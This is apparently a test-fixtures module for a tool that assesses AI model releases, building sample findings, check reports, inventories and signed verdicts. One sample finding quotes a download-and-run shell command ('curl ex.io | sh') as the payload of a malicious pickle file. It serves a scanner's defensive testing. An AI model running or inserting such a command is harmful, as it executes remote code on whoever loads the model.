"""Assessments, programmes and verdicts that the tests of reports share."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime
from enum import Enum

from assay.domain.assessment import Assessment, Burden, ControlResult, Outcome
from assay.domain.declaration import Declarations
from assay.domain.facts import Content, FileFacts, Gap, Place, ReleaseFacts
from assay.domain.finding import CheckReport, Confidence, Finding, Severity
from assay.domain.programme import (
    AnswerMethod,
    Area,
    Benefit,
    Control,
    EvidenceClass,
    Mapping,
    Programme,
    ProgrammeRef,
    Tier,
    TierReached,
)
from assay.domain.release import FileRecord, Inventory, Irregular, IrregularKind
from assay.domain.statement import (
    MANIFEST_TYPE,
    Issuer,
    Seal,
    SealedStatement,
    VerifiedRelease,
    VerifiedStatement,
)
from assay.domain.verdict import (
    Decision,
    DecisionValue,
    Reason,
    Verdict,
    VerdictValue,
)

REF = ProgrammeRef(id="sample", version="0.1.0", digest="5c" * 32)
DIGEST = "9f3a1c7e42d85b60" * 4
NOW = datetime(2026, 11, 23, 12, 30, tzinfo=UTC)

AREAS = (
    ("weights", "Weights and formats"),
    ("code", "Code and templates"),
    ("integrity", "Integrity and provenance"),
    ("secrets", "Secrets and personal data"),
    ("evaluation", "Evaluation and red teaming"),
    ("operations", "Operation and response"),
)

CLASS_OF = {
    AnswerMethod.CHECKS: EvidenceClass.REPRODUCIBLE,
    AnswerMethod.DECLARATION: EvidenceClass.DECLARED,
    AnswerMethod.REVIEW: EvidenceClass.INDEPENDENT,
}

M, N, A, U, E = (
    Outcome.MET,
    Outcome.NOT_MET,
    Outcome.NOT_APPLICABLE,
    Outcome.NOT_ASSESSED,
    Outcome.ERROR,
)
C, D, R = AnswerMethod.CHECKS, AnswerMethod.DECLARATION, AnswerMethod.REVIEW

# Area, title, method, check, outcome, reason.
ROWS = (
    (0, "Weights load without running code", C, "pickle-calls", N,
     "The check pickle-calls found 2 findings of severity high or above."),
    (0, "Tensor files keep to their format", C, "safetensors-format", M,
     "The check safetensors-format looked at 3 files and found nothing."),
    (0, "Archives hold what they declare", C, "archive-bombs", A,
     "The release holds no archive."),
    (0, "No weights are hidden in other files", C, "polyglots", U,
     "The check polyglots was cut short: 1 thing was not looked at."),
    (1, "No code is fetched when the model loads", C, "remote-code", N,
     "The check remote-code found 1 finding of severity high or above."),
    (1, "Templates cannot reach the host", C, "chat-template", M,
     "The check chat-template looked at 1 template and found nothing."),
    (1, "No native code rides along", C, "native-code", E,
     "The check native-code failed: the file changed while it was read."),
    (1, "Code of the release was reviewed", D, "", U, "Nobody answered."),
    (2, "Every file is bound by a digest", C, "inventory", M,
     "All 9 files are in the manifest."),
    (2, "The origin of base models is stated", C, "model-card", M,
     "The card names its base models."),
    (2, "Build records are kept", D, "", M,
     "The build of every release is recorded and kept for five years."),
    (2, "An independent party rebuilt the release", R, "", U,
     "No independent review was given."),
    (3, "No credentials are in the files", C, "secrets", M,
     "The check secrets looked at 6 texts and found nothing."),
    (3, "Training data was screened for personal data", D, "", M,
     "Two screening passes are described in the data sheet."),
    (4, "Dangerous capabilities were evaluated", D, "", N,
     "The evaluation is planned for the next release."),
    (4, "An outside team tested the safeguards", R, "", U,
     "No independent review was given."),
    (5, "A contact for vulnerability reports is public", D, "", M,
     "security.txt is published and its mailbox is watched on every day."),
    (5, "Incidents are reported within 72 hours", D, "", A,
     "The model is not served by the developer."),
)  # fmt: skip


def control(index: int) -> Control:
    area, title, method, check, _, _ = ROWS[index]
    asked = method is not C
    return Control(
        id=f"{AREAS[area][0][:3]}-{index + 1}",
        area=AREAS[area][0],
        title=title,
        requirement=f"{title}, in every file of the release and for every version.",
        purpose="Loading a model must never mean running the program of a stranger.",
        how_to_meet="Publish weights in a format that holds data alone.",
        method=method,
        evidence_class=CLASS_OF[method],
        checks=(check,) if check else (),
        fail_at=None if asked else Severity.HIGH,
        freshness_days=365,
        question=f"{title}: is it so, and how?" if asked else "",
        answered_by="release engineering lead" if asked else "",
        example="Yes: the record of the build is attached." if asked else "",
        mappings=(
            (Mapping(framework="NIST SP 800-218A", version="2024-07", id="PS.3.2"),)
            if index % 2 == 0
            else ()
        ),
    )


def programme() -> Programme:
    controls = tuple(control(i) for i in range(len(ROWS)))
    return Programme(
        ref=REF,
        title="Sample programme for model releases",
        notice=(
            "Unofficial reference programme: no government or agency has adopted, "
            "reviewed or endorsed it."
        ),
        published=date(2026, 9, 1),
        areas=tuple(Area(id=i, title=t) for i, t in AREAS),
        controls=controls,
        tiers=(
            Tier(
                id="baseline",
                title="Baseline",
                summary="The files hold data, and every one of them is bound.",
                controls=(controls[1].id, controls[8].id),
            ),
            Tier(
                id="assured",
                title="Assured",
                summary="Everything was looked at, and an outside party agrees.",
                controls=tuple(c.id for c in controls),
            ),
        ),
        benefits=(
            Benefit(
                id="priority-review",
                title="Priority review (example)",
                summary="An example of what an agency could adopt.",
                grantor="an agency",
                rule=TierReached(tier="baseline"),
                max_age_days=365,
            ),
        ),
    )


def result(index: int) -> ControlResult:
    _, _, method, _, outcome, reason = ROWS[index]
    answered = method is not C and outcome is not U
    return ControlResult(
        control=control(index).id,
        outcome=outcome,
        evidence_class=CLASS_OF[method],
        reason=reason,
        collected=date(2026, 10, 14) if answered else None,
        evidence=("ab" * 32, "cd" * 32) if answered and outcome is M else (),
    )


def finding(**changes) -> Finding:
    base = Finding(
        check="pickle-calls",
        rule="calls-os-system",
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        place=Place(path="pytorch_model.bin", member="archive/data.pkl", offset=1042),
        message="Loading the file calls posix.system with the text 'curl ex.io | sh'.",
        gain="Whoever loads the model runs a program chosen by the author of the file.",
        remediation="Convert the weights to safetensors and delete the pickle.",
        references=("CWE-502", "AML.T0010"),
    )
    return replace(base, **changes)


FINDINGS = (
    finding(),
    finding(
        rule="imports-unknown-module",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        place=Place(path="pytorch_model.bin", member="archive/data.pkl", offset=88),
        message="Loading the file imports the module acme_loader.",
    ),
)
REMOTE_CODE = finding(
    check="remote-code",
    rule="auto-map",
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    place=Place(path="config.json", key="auto_map.AutoModel"),
    message="The configuration names Python code that is fetched and run on load.",
    gain="The owner of the repository named can change what runs at any time.",
    remediation="Ship the class with the library, or remove the entry.",
    references=("CWE-829",),
)
MINOR = tuple(
    finding(
        check="model-card",
        rule=rule,
        severity=severity,
        confidence=Confidence.LOW,
        place=Place(path="README.md", line=line),
        message=message,
        gain="",
        remediation="Complete the card.",
        references=(),
    )
    for rule, severity, line, message in (
        ("no-license", Severity.MEDIUM, 3, "The card names no licence."),
        ("no-limits", Severity.LOW, 40, "The card has no section on limits of use."),
        ("no-contact", Severity.INFO, 52, "The card names no contact."),
    )
)

REPORTS = (
    CheckReport(
        check="pickle-calls", version=3, examined=2, findings=FINDINGS, findings_total=2
    ),
    CheckReport(check="safetensors-format", version=2, examined=3),
    CheckReport(check="archive-bombs", version=1, examined=0),
    CheckReport(
        check="polyglots",
        version=1,
        examined=8,
        gaps=(
            Gap(
                place=Place(path="weights/extra.7z"),
                reason="The format 7z is known but is not read.",
                content=Content.SEVEN_ZIP,
            ),
        ),
    ),
    CheckReport(
        check="remote-code",
        version=2,
        examined=1,
        findings=(REMOTE_CODE,),
        findings_total=1,
    ),
    CheckReport(check="chat-template", version=4, examined=1),
    CheckReport(
        check="native-code",
        version=1,
        examined=2,
        failure="The file libops.so changed while it was read.",
    ),
    CheckReport(check="inventory", version=1, examined=9),
    CheckReport(
        check="model-card", version=2, examined=1, findings=MINOR, findings_total=3
    ),
    CheckReport(check="secrets", version=5, examined=6),
)

SIZES = (
    ("README.md", 6_204, Content.MARKDOWN),
    ("config.json", 712, Content.JSON),
    ("generation_config.json", 181, Content.JSON),
    ("libops.so", 48_112, Content.ELF),
    ("model-00001-of-00002.safetensors", 4_976_698_672, Content.SAFETENSORS),
    ("model-00002-of-00002.safetensors", 3_802_481_664, Content.SAFETENSORS),
    ("pytorch_model.bin", 438_010_991, Content.PYTORCH_ZIP),
    ("tokenizer/tokenizer.json", 9_085_657, Content.JSON),
    ("weights/extra.7z", 10_443, Content.SEVEN_ZIP),
)


def inventory() -> Inventory:
    return Inventory(
        files=tuple(
            FileRecord(path=path, size=size, sha256=f"{index:02x}c4e1b7" * 8)
            for index, (path, size, _) in enumerate(SIZES)
        ),
        irregular=(
            Irregular(path=".git", kind=IrregularKind.VERSION_CONTROL),
            Irregular(
                path="latest",
                kind=IrregularKind.SYMLINK_OUTSIDE,
                detail="../other/model.bin",
            ),
        ),
    )


def facts() -> ReleaseFacts:
    return ReleaseFacts(
        files=tuple(
            FileFacts(path=path, size=size, content=content)
            for path, size, content in SIZES
        )
    )


def assessment() -> Assessment:
    return Assessment(
        release_digest=DIGEST,
        files=len(SIZES),
        total_size=sum(size for _, size, _ in SIZES),
        programme=REF,
        tool_version="0.1.0",
        controls=tuple(result(i) for i in range(len(ROWS))),
        reports=REPORTS,
        tiers=("baseline",),
        burden=Burden(controls=18, by_machine=10, asked=6, answered=5, for_reviewers=2),
    )


def with_findings(*findings: Finding, total: int = 0) -> Assessment:
    """Give the assessment whose only check saw these findings."""
    report = CheckReport(
        check="pickle-calls",
        version=3,
        examined=len(findings),
        findings=findings,
        findings_total=max(total, len(findings)),
    )
    return replace(assessment(), reports=(report,))


def spotless() -> Assessment:
    """Give an assessment in which everything is met and nothing was passed over."""
    return replace(
        assessment(),
        controls=tuple(
            replace(result(i), outcome=M, reason="It holds.") for i in range(len(ROWS))
        ),
        reports=(CheckReport(check="pickle-calls", version=3, examined=2),),
        tiers=("baseline", "assured"),
    )


def verified_release() -> VerifiedRelease:
    issuer = Issuer(name="Acme Models, release key 2026", key_id="7e" * 32)
    return VerifiedRelease(
        issuer=issuer,
        files=inventory().files,
        assessment=assessment(),
        declarations=Declarations(),
        seal=Seal(
            release_digest=DIGEST,
            sealed_at=datetime(2026, 11, 1, 9, 0, tzinfo=UTC),
            valid_until=datetime(2027, 11, 1, 9, 0, tzinfo=UTC),
            statements=(
                SealedStatement(predicate_type=MANIFEST_TYPE, sha256="aa" * 32),
            ),
        ),
        programme=programme(),
        programme_trusted=True,
        statements=(
            VerifiedStatement(
                predicate_type=MANIFEST_TYPE,
                payload_sha256="aa" * 32,
                issuer=issuer,
                log_origin="log.example/2026",
                log_index=4_211,
                logged_at=datetime(2026, 11, 1, 9, 1, tzinfo=UTC),
            ),
            VerifiedStatement(
                predicate_type="https://assay/seal/v0.1",
                payload_sha256="bb" * 32,
                issuer=issuer,
            ),
        ),
    )


def verdict(value: VerdictValue = VerdictValue.VALID) -> Verdict:
    good = Reason(
        code="verify.signatures",
        message="All four signatures hold over their bytes.",
        subject="bundle",
        holds=True,
    )
    bad = Reason(
        code="signature.wrong-key",
        message="The manifest is signed by a key that the trust file does not name.",
        subject="manifest",
    )
    if value is VerdictValue.INVALID:
        return Verdict(value=value, at=NOW, reasons=(bad, good))
    return Verdict(value=value, at=NOW, reasons=(good,), release=verified_release())


def decision(value: DecisionValue = DecisionValue.CANNOT_TELL) -> Decision:
    return Decision(
        value=value,
        benefit="priority-review",
        programme=REF,
        at=NOW,
        reasons=(
            Reason(
                code="eligibility.not-assessed",
                message="Nobody assessed the control, so it counts for nothing.",
                subject="cod-8",
            ),
            Reason(
                code="eligibility.met",
                message="The control is met and reproducible.",
                subject="int-9",
                holds=True,
            ),
        ),
    )


def poisoned(noun, text):
    """Give the noun with every free text in it, however deep, followed by `text`."""
    if isinstance(noun, tuple):
        return tuple(poisoned(part, text) for part in noun)
    if isinstance(noun, str) and not isinstance(noun, Enum):
        return noun + text
    if is_dataclass(noun) and not isinstance(noun, type):
        changes = {
            field.name: poisoned(getattr(noun, field.name), text)
            for field in fields(noun)
        }
        return replace(noun, **changes)
    return noun


def untrusted_verdict() -> Verdict:
    """Give a verdict on a release whose programme the trust file does not name."""
    release = replace(verified_release(), programme_trusted=False)
    return replace(verdict(), release=release)
